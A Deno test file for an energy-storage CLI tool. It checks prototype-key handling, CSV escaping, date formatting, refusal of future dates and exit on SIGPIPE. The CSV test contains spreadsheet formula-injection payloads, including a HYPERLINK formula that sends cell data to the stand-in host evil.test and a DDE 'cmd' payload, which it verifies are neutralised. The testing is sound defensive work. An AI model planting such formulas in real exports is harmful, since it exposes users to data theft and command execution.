/**
 * What `ess data` and `ess graph` write, against a hostile device and a hostile reader: rows
 * with keys named like Object.prototype's, cells a spreadsheet would run, dates in CSV, a date
 * that has not come yet, and a pipe whose reader goes away (`| head -c 10`), each through the
 * real CLI as a subprocess.
 */
import assert from "node:assert/strict";
import { fileURLToPath } from "node:url";
import { PERMISSIONS, runCli } from "./_cli.ts";
import {
  HOSTILE_PASSWORD,
  type HostileDevice,
  type HostileRequest,
  json,
  readsHome,
  withHostileDevice,
} from "./_hostile_device.ts";
import type { Json } from "../lib/device/flatten.ts";

const password = ["--password", HOSTILE_PASSWORD];
const MAIN = fileURLToPath(new URL("../main.ts", import.meta.url));

/** Runs `fn` against a device whose graphs answer `rows`, with the options that point at it. */
function withGraph(
  rows: Json[],
  fn: (device: HostileDevice, args: string[]) => Promise<void>,
): Promise<void> {
  const misbehave = (r: HostileRequest) =>
    r.path.startsWith("/v1/user/graph/") ? json({ db: "success", loginfo: rows }) : undefined;
  return withHostileDevice(
    misbehave,
    (device) => fn(device, ["--config", "/dev/null", "--host", device.host, ...password]),
  );
}

Deno.test("ess graph reads only a row's own keys", async (t) => {
  // One row has keys named like Object.prototype's members; the others lack them, and a lookup
  // that followed the prototype found a function there.
  const rows: Json[] = [
    { time: "20240615000000", generation: "1", valueOf: "2", constructor: "3" },
    { time: "20240615001500", generation: "4" },
  ];
  await withGraph(rows, async (_device, args) => {
    const expected: Record<string, string> = {
      table: "time   generation  valueOf  constructor\n00:00  1           2        3\n00:15  4\n",
      csv: "time,generation,valueOf,constructor\n2024-06-15 00:00,1,2,3\n2024-06-15 00:15,4,,\n",
    };
    for (const [format, stdout] of Object.entries(expected)) {
      await t.step(`should print --format ${format} with empty cells there`, async () => {
        const run = await runCli(["graph", "pv", "day", "2024-06-15", "--format", format, ...args]);
        assert.equal(run.code, 0, run.stderr);
        assert.equal(run.stderr, "");
        assert.equal(run.stdout, stdout);
      });
    }
    await t.step("should chart such a key, counting a row without it as 0", async () => {
      const run = await runCli([
        "graph",
        "pv",
        "day",
        "2024-06-15",
        "--format",
        "chart",
        "--field",
        "valueOf",
        ...args,
      ]);
      assert.equal(run.code, 0, run.stderr);
      assert.match(run.stdout, /^00:15 │ 0$/m);
    });
  });
});

Deno.test("ess graph --format csv", async (t) => {
  await t.step("should neutralise cells a spreadsheet would run, and keep numbers", async () => {
    const rows = [{
      time: "20240615120000",
      generation: '=HYPERLINK("http://evil.test/?"&A1,"x")',
      feed_in: "-12.5",
      self_consum: "+1+cmd|' /C calc'!A0",
      total_generation: "@SUM(A1:A9)",
      total_Feed_in: "-",
    }];
    await withGraph(rows, async (_device, args) => {
      const run = await runCli(["graph", "pv", "day", "2024-06-15", "--format", "csv", ...args]);
      assert.equal(run.code, 0, run.stderr);
      assert.equal(
        run.stdout.split("\n")[1],
        `2024-06-15 12:00,"'=HYPERLINK(""http://evil.test/?""&A1,""x"")",-12.5,` +
          `'+1+cmd|' /C calc'!A0,'@SUM(A1:A9),'-`,
      );
    });
  });

  await t.step("should show the time as the date a spreadsheet reads, per span", async () => {
    const cases: [string, string, string][] = [
      ["day", "20261130001500", "2026-11-30 00:15"],
      ["week", "20261130000000", "2026-11-30"],
      ["month", "20261130000000", "2026-11-30"],
      ["year", "20261100000000", "2026-11"],
    ];
    for (const [span, time, shown] of cases) {
      await withGraph([{ time, generation: "5" }], async (_device, args) => {
        const run = await runCli(["graph", "pv", span, "2026-11-30", "--format", "csv", ...args]);
        assert.equal(run.code, 0, run.stderr);
        assert.equal(run.stdout, `time,generation\n${shown},5\n`, span);
      });
    }
  });
});

Deno.test("ess graph refuses a date that has not come yet", async (t) => {
  await withGraph([], async (device, args) => {
    for (
      const [span, date, shown] of [["day", "2999-01-01", "2999-01-01"], [
        "year",
        "2999-06-15",
        "2999",
      ]]
    ) {
      await t.step(`should exit 2 with one line for a ${span} in the future`, async () => {
        const run = await runCli(["graph", "pv", span!, date!, ...args]);
        assert.equal(run.code, 2, run.stderr);
        assert.equal(run.stdout, "");
        assert.match(
          run.stderr,
          new RegExp(
            `^ess: ${shown} is after (today|this year) \\(\\d{4}(-\\d\\d-\\d\\d)?\\): the device has no statistics for it yet\n$`,
          ),
        );
      });
    }
    assert.ok(!device.requests.some((r) => r.path.startsWith("/v1/user/graph/")), "nothing asked");
    await t.step("should take a later day of the current month for a month", async () => {
      const now = new Date();
      const month = `${now.getUTCFullYear()}-${String(now.getUTCMonth() + 1).padStart(2, "0")}`;
      const run = await runCli(["graph", "pv", "month", `${month}-28`, ...args]);
      assert.equal(run.code, 0, run.stderr);
    });
  });
});

Deno.test("ess data | head -c 10", async (t) => {
  // 320 kB of JSON: far more than a pipe holds, so ess is still writing when head has gone.
  // The keys are a Home 8/10's, so that ess has no unknown field to warn about.
  const keys = ["pcs_pv_total_power", "batconv_power", "bat_use", "bat_status", "bat_user_soc"];
  const home = Object.fromEntries(
    [...keys, "load_power", "ac_output_power", "load_today"].map((k) => [k, "x".repeat(40_000)]),
  );
  const misbehave = (r: HostileRequest) => readsHome(r) ? json({ statistics: home }) : undefined;
  await withHostileDevice(misbehave, async (device) => {
    await t.step("should print nothing on stderr and stop as a Unix tool does", async () => {
      const ess = [
        Deno.execPath(),
        "run",
        "--no-prompt",
        ...PERMISSIONS,
        MAIN,
        "data",
        "--only",
        "home",
        "--config",
        "/dev/null",
        "--host",
        device.host,
        ...password,
      ];
      // A real pipe into a real head; the script reports ess's own status on fd 3.
      const script = '"$@" 2>ess.err | head -c 10; echo "${PIPESTATUS[0]}" >&3; cat ess.err >&3';
      const dir = await Deno.makeTempDir({ prefix: "ess-pipe-" });
      try {
        const out = await new Deno.Command("bash", {
          args: ["-c", `exec 3>status; ${script}`, "bash", ...ess],
          cwd: dir,
          clearEnv: true,
          env: {
            HOME: "/nonexistent",
            PATH: Deno.env.get("PATH") ?? "/usr/bin:/bin",
            DENO_DIR: Deno.env.get("DENO_DIR") ?? `${Deno.env.get("HOME")}/.cache/deno`,
            TZ: "UTC",
            NO_COLOR: "1",
          },
          stdout: "piped",
          stderr: "piped",
        }).output();
        assert.equal(new TextDecoder().decode(out.stdout), '{\n  "home"');
        const [status, ...stderr] = (await Deno.readTextFile(`${dir}/status`)).split("\n");
        assert.equal(stderr.join("\n"), "", "ess says nothing");
        assert.equal(status, "141", "128 + SIGPIPE, as a shell reports a tool SIGPIPE ended");
      } finally {
        await Deno.remove(dir, { recursive: true });
      }
    });
  });
});
